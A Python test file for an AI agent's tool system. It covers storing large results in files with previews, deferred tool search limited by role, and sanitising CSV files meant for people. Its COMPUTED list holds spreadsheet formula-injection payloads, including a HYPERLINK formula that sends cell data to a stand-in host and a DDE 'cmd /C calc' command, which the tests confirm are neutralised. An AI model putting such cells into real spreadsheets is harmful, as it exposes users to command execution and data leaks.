"""Large results lie in files with a preview; many tools are named, found and loaded."""

from __future__ import annotations

import asyncio
import csv
import io
import json

import pytest

from bot.errors import ModelMustRetry
from bot.policy.gate import Effect
from bot.team.context import Context
from bot.tools.base import Outcome, Tool
from bot.tools.files import file_tools
from bot.tools.ranking import stems
from bot.tools.registry import Registry
from bot.tools.results import for_people, keep, to_csv
from bot.tools.tables import table_tools
from bot.workspace import Workspace
from tests.tools.harness import context, store, use

ROWS = [{"account": f"4{n:03}", "amount": f"{n}.10", "tags": ["a", "b"], "note": None} for n in range(300)]


@pytest.fixture
def ctx(tmp_path):
    with store(tmp_path) as db:
        yield context(db, tmp_path)


def test_a_small_result_stays_as_it_is(tmp_path):
    content = {"ok": True, "rows": ROWS[:3], "text": "short"}
    assert keep(Workspace(tmp_path, "r", "a"), "toolu_1", content) is content


def test_rows_go_to_a_table_with_count_columns_and_head(tmp_path):
    place = Workspace(tmp_path, "r", "a")
    shown = keep(place, "toolu_1", {"ok": True, "total": 300, "rows": ROWS})
    assert (shown["ok"], shown["total"], shown["rows"]["rows_total"]) == (True, 300, 300)
    assert shown["rows"]["columns"] == ["account", "amount", "tags", "note"]
    assert shown["rows"]["preview"][0] == ROWS[0]
    assert len(json.dumps(shown)) < 1500
    lines = list(csv.DictReader(io.StringIO(place.text(shown["rows"]["file"]))))
    assert (len(lines), lines[299]["amount"], lines[0]["note"]) == (300, "299.10", "")
    again = keep(place, "toolu_1", {"ok": True, "total": 300, "rows": ROWS})
    assert (again, len(place.names())) == (shown, 1), "a repeat after a crash changes nothing"


@pytest.mark.parametrize("value", ["word " * 5000, list(range(4000)), {"a": {"b": ["c" * 3000]}}, [["x"] * 50] * 50])
def test_whatever_is_large_is_put_away_whole(tmp_path, value):
    place = Workspace(tmp_path, "r", "a")
    shown = keep(place, "toolu_1", {"ok": True, "value": value, "small": "stays"})
    assert len(json.dumps(shown)) < 2000
    assert shown["small"] == "stays"
    text = place.text(shown["value"]["file"])
    if isinstance(value, list):
        assert [json.loads(line) for line in text.splitlines()] == value
    else:
        assert (text if isinstance(value, str) else json.loads(text)) == value


def test_only_what_has_no_room_is_put_away_the_largest_first(tmp_path):
    content = {"ok": True, "large": "x" * 5000, "middle": "y" * 1000}
    shown = keep(Workspace(tmp_path, "r", "a"), "toolu_1", content)
    assert shown["middle"] == content["middle"]
    assert shown["large"]["characters"] == 5000


def test_what_points_to_a_file_already_keeps_pointing_to_it(tmp_path):
    table = {"file": "tables/a.csv", "rows_total": 9, "preview": [{"a": "x" * 3000}]}
    shown = keep(Workspace(tmp_path, "r", "a"), "toolu_1", {"ok": True, "accounts": table})
    assert shown["accounts"] == {"file": "tables/a.csv", "rows_total": 9}


def test_a_kept_result_is_read_in_slices_and_computed_over(ctx):
    async def fetch(_ctx, _args):
        return Outcome({"ok": True, "entries": ROWS, "text": "0123456789" * 1000})

    tools = Registry([Tool("fetch", "Fetch.", Effect.READ, fetch), *file_tools(), *table_tools()])
    outcome = asyncio.run(use(tools, ctx, "fetch"))
    assert len(json.dumps(outcome.content)) <= 2200
    entries, text = outcome.content["entries"]["file"], outcome.content["text"]["file"]
    assert set(outcome.files) == {entries, text}, "the files are known to come from this call"
    piece = asyncio.run(use(tools, ctx, "read_file", path=text, offset=5000, limit=10)).content
    assert (piece["text"], piece["characters"], piece["next_offset"]) == ("0123456789", 10_000, 5010)
    sql = "SELECT sum(amount) AS total FROM e"
    total = asyncio.run(use(tools, ctx, "query_table", sql=sql, tables={"e": entries})).content
    assert total["rows"] == [{"total": "44880.00"}]
    whole = asyncio.run(use(tools, ctx, "read_file", path=text, limit=20_000)).content
    assert len(whole["text"]) == 10_000, "what is asked for is not put away again"


# --- many tools


def connector(number, name="ledger", about="Looks something up."):
    async def run(_ctx, _args):
        return Outcome({"ok": True})

    schema = {"type": "object", "properties": {"period": {"type": "string"}}}
    return Tool(f"mcp__{name}__tool_{number}", about, Effect.READ, run, schema=schema)


def many(count=30):
    special = connector("payables", "books", "Lists unpaid bills by supplier. It has more to say.")
    return Registry([*file_tools(), special, *(connector(n) for n in range(count))])


EVERY = ("*",)


def test_up_to_twenty_tools_are_shown_whole():
    shown = many(10).definitions(EVERY)
    assert [d["name"] for d in shown if "defer_loading" in d or d["name"] == "tool_search"] == []
    assert many(10).catalogue(EVERY) == ""


def test_beyond_twenty_those_of_connectors_are_named_and_deferred():
    toolbox = many()
    shown = toolbox.definitions(EVERY)
    assert json.dumps(shown) == json.dumps(toolbox.definitions(EVERY)) == json.dumps(many().definitions(EVERY))
    deferred = [d["name"] for d in shown if d.get("defer_loading")]
    assert deferred == toolbox.deferred(EVERY) and len(deferred) == 31
    marked = [d["name"] for d in shown if "cache_control" in d]
    assert len(marked) == 1 and marked[0] not in deferred
    (search,) = [d for d in shown if d["name"] == "tool_search"]
    assert "- mcp__books__tool_payables: Lists unpaid bills by supplier." in search["description"]
    assert all(name in search["description"] for name in deferred)
    assert "has more to say" not in search["description"]


def test_a_search_loads_what_it_finds_without_changing_what_is_sent(ctx):
    toolbox = many()
    before = json.dumps(toolbox.definitions(EVERY))
    asking = context(ctx.db, ctx.workspace.root, role_tools=EVERY)
    found = asyncio.run(use(toolbox, asking, "tool_search", query="which suppliers have bills we did not pay"))
    assert found.refers[0] == "mcp__books__tool_payables"
    assert found.content["tools"][0]["description"] == "Lists unpaid bills by supplier."
    by_name = asyncio.run(use(toolbox, asking, "tool_search", names=["mcp__ledger__tool_7"]))
    assert by_name.refers == ("mcp__ledger__tool_7",)
    assert json.dumps(toolbox.definitions(EVERY)) == before


def test_a_search_finds_only_what_the_role_may_use(ctx):
    toolbox = many()
    role = ("read_file", "tool_search", "mcp__ledger__*")
    asking = context(ctx.db, ctx.workspace.root, role_tools=role)
    found = asyncio.run(use(toolbox, asking, "tool_search", query="unpaid bills by supplier"))
    assert "mcp__books__tool_payables" not in found.refers
    hidden = asyncio.run(use(toolbox, asking, "tool_search", names=["mcp__books__tool_payables"]))
    assert hidden.is_error and not hidden.refers
    nothing = asyncio.run(use(toolbox, context(ctx.db, ctx.workspace.root), "tool_search", query="bills"))
    assert nothing.refers == ()


def test_the_model_gets_a_reference_to_each_tool_that_was_found():
    context_ = Context([{"type": "text", "text": "go"}])
    call = {"type": "tool_use", "id": "toolu_1", "name": "tool_search", "input": {}}
    context_.turn({"content": [call], "stop_reason": "tool_use"}, ())
    context_.result({"id": "toolu_1", "content": {"ok": True}, "is_error": False, "refers": ["mcp__a__b"]})
    context_.close_user(())
    (block,) = json.loads(context_.parts[-1])["content"]
    assert block["content"][1:] == [{"type": "tool_reference", "tool_name": "mcp__a__b"}]


def test_words_are_compared_by_their_stems():
    assert stems("listInvoices paid_bills") == stems("list invoice paid bill")


def test_a_wrong_argument_of_a_search_is_named():
    with pytest.raises(ModelMustRetry, match="query"):
        many().get("tool_search").parse({"query": 5})


COMPUTED = [
    '=HYPERLINK("http://x.example?"&A1,"open")',
    "@SUM(1)",
    "+1+cmd|' /C calc'!A0",
    '-HYPERLINK("http://x.example")',
    "\t=1",
    "\r=1",
    "=1,2;3",
]
KEPT = [
    "-Legal",
    "-2+3",
    "-1,234.50",
    "+49 30 1234",
    "-5 %",
    "-1.5e-3",
    "-",
    "a=b",
    "x@y.example",
    "two\nlines",
    'a "b"',
    "",
    " ",
    "007",
]


@pytest.mark.parametrize("mark", ["", "\ufeff"])
@pytest.mark.parametrize(("comma", "end"), [(",", "\n"), (";", "\r\n"), ("\t", "\n")])
def test_what_a_spreadsheet_would_compute_is_text_in_a_file_for_people(mark, comma, end):
    rows = [
        ["=head", "b", "c"],
        *([cell, "x" * 200_000 if n == 0 else "x", cell] for n, cell in enumerate(COMPUTED + KEPT)),
    ]
    out = io.StringIO(newline="")
    csv.writer(out, delimiter=comma, lineterminator=end, quoting=csv.QUOTE_ALL).writerows(rows)
    shown = for_people("tables/Rows.CSV", (mark + out.getvalue()).encode()).decode()
    assert shown.startswith(mark)
    found = list(csv.reader(io.StringIO(shown.removeprefix(mark), newline=""), delimiter=comma))
    assert found[0] == ["'=head", "b", "c"]
    assert [row[0] for row in found[1:]] == [row[2] for row in found[1:]] == [*(f"'{one}" for one in COMPUTED), *KEPT]


@pytest.mark.parametrize("data", [b'a;b\r\n-1;"x"\r\n', b"", b"\xff\xfea,b\n", b'a,"b'])
def test_a_table_with_nothing_to_compute_leaves_as_it_is(data):
    assert for_people("rows.csv", data) == data


def test_other_files_and_the_tables_of_a_run_are_left_alone():
    assert for_people("page.html", b"=1+1\n") == b"=1+1\n"
    assert to_csv([{"a": "=1+1"}]) == "a\n=1+1\n"
    assert for_people("rows.csv", b"a\n=\xff\n") == b"a\r\n'=\xff\r\n"
